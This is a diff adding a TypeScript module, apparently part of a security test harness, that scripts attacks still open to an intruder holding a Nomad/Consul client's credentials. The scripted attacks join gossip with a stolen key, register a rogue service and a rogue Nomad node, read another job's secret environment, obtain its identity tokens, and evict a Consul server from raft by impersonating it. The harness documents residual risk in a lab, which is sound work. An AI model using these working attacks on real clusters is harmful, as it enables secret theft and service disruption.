@@ -1,0 +1,152 @@
+import { randomUUID } from 'node:crypto';
+import { waitFor } from '../commands.ts';
+import type { Remainder } from './attack.ts';
+import { joinConsul } from './network.ts';
+import { bytes } from './rpc.ts';
+import { addressOf, asOperator, http, rpc, say, type World } from './world.ts';
+
+const victim = `job "victim" {
+  datacenters = ["*"]
+  group "g" {
+    task "t" {
+      driver = "exec"
+      identity {
+        env = true
+      }
+      env {
+        PASSWORD = "of-the-victim"
+      }
+      config {
+        command = "/bin/sleep"
+        args    = ["600"]
+      }
+      resources {
+        cpu    = 50
+        memory = 32
+      }
+    }
+  }
+}
+`;
+
+function overRpc(w: World, method: string, body: object): Promise<string> {
+  const call = { address: addressOf(w.server), port: 4647, tls: bytes.nomad.tls, protocol: bytes.nomad.rpc, method };
+  return rpc(w, { ...call, ...w.stolen.pair, body: { Region: 'global', ...body } });
+}
+
+/** Registers a node that nobody else knows, with the client's certificate alone. Returns its secret. */
+async function ownNode(w: World): Promise<string> {
+  const [id, secret] = [randomUUID(), randomUUID()];
+  const node = {
+    ID: id,
+    SecretID: secret,
+    Name: 'own',
+    Datacenter: 'nowhere',
+    NodePool: 'default',
+    Status: 'ready',
+    Attributes: {},
+    Drivers: {},
+  };
+  const answer = await overRpc(w, 'Node.Register', { Node: node });
+  if (!answer.startsWith('answered')) throw new Error(`a client's certificate makes no node: ${answer}`);
+  return secret;
+}
+
+/** The allocation of a job on the cluster's own client. */
+async function victimAllocation(w: World): Promise<string> {
+  await w.server.exec(['nomad', 'job', 'run', '-detach', '-'], { ...asOperator(w), stdin: victim });
+  return waitFor(
+    'the victim to run',
+    async () => {
+      const { stdout } = await w.server.exec(['nomad', 'job', 'allocs', '-json', 'victim'], asOperator(w));
+      const [allocation] = JSON.parse(stdout) as { ID: string; ClientStatus: string }[];
+      return allocation?.ClientStatus === 'running' ? allocation.ID : undefined;
+    },
+    { timeoutMs: 60_000 },
+  );
+}
+
+/** What Consul's one gossip key, the tokens that clients share, and Nomad's trust in its clients leave open. */
+export const remains: readonly Remainder[] = [
+  {
+    position: 'client',
+    what: "join Consul's gossip from another machine, and see every node",
+    attempt: w => joinConsul(w, w.secrets.credentials.consulGossip.reveal()),
+    gain: /server1.*server2/s,
+  },
+  {
+    position: 'client',
+    what: 'register a service of any name on any node in Consul',
+    attempt: async w => {
+      const token = w.secrets.credentials.tokens.consul['nomad-client'].secretId.reveal();
+      const body = '{"Node":"server1","SkipNodeUpdate":true,"Service":{"Service":"evil","Address":"192.0.2.1"}}';
+      return http(w.client, 'http://127.0.0.1:8500/v1/catalog/register', [
+        '-X',
+        'PUT',
+        '-H',
+        `X-Consul-Token: ${token}`,
+        '-d',
+        body,
+      ]);
+    },
+    gain: /HTTP 200/,
+  },
+  {
+    position: 'client',
+    what: 'read the job of another node, with what its environment holds, as a node that the certificate alone registers',
+    attempt: async w =>
+      overRpc(w, 'Alloc.GetAllocs', { AllocIDs: [await victimAllocation(w)], AuthToken: await ownNode(w) }),
+    gain: /of-the-victim/,
+  },
+  {
+    position: 'client',
+    what: 'be given the identity of a job of another node, and so what that job may do',
+    attempt: async w =>
+      overRpc(w, 'Alloc.SignIdentities', {
+        AuthToken: await ownNode(w),
+        Identities: [
+          { AllocID: await victimAllocation(w), IdentityName: 'default', WorkloadIdentifier: 't', WorkloadType: 0 },
+        ],
+      }),
+    gain: /^answered.*JWT/s,
+  },
+  {
+    position: 'client',
+    what: "push a server out of Consul's raft, by claiming its address in the gossip",
+    async attempt(w) {
+      const { consulGossip, consulManagement } = w.secrets.credentials;
+      const last = w.servers.at(-1) ?? w.server;
+      const peers = () =>
+        say(w.server, ['consul', 'operator', 'raft', 'list-peers'], {
+          env: { CONSUL_HTTP_TOKEN: consulManagement.reveal() },
+        });
+      const ports = [
+        '-serf-lan-port=9301',
+        '-server-port=8300',
+        '-http-port=9500',
+        '-dns-port=-1',
+        '-grpc-port=-1',
+        '-grpc-tls-port=-1',
+      ];
+      const agent = [
+        ...[
+          'consul',
+          'agent',
+          '-server',
+          '-node=usurper',
+          `-bind=${addressOf(w.intruder)}`,
+          `-advertise=${addressOf(last)}`,
+        ],
+        ...['-data-dir=/var/tmp/usurper', `-encrypt=${consulGossip.reveal()}`, '-datacenter=dc1', ...ports],
+        ...[`-retry-join=${addressOf(w.server)}`, '-retry-interval=1s'],
+      ];
+      await w.intruder.exec(['systemctl', 'stop', 'careless-consul'], { check: false });
+      await w.intruder.exec(['bash', '-c', `timeout 20 ${agent.join(' ')} >/var/tmp/usurper.log 2>&1; true`]);
+      const after = await peers();
+      return after.includes(`${last.name} `)
+        ? `${last.name} is still a peer: ${after}`
+        : `${last.name} is no peer any more: ${after}`;
+    },
+    gain: /is no peer any more/,
+  },
+];
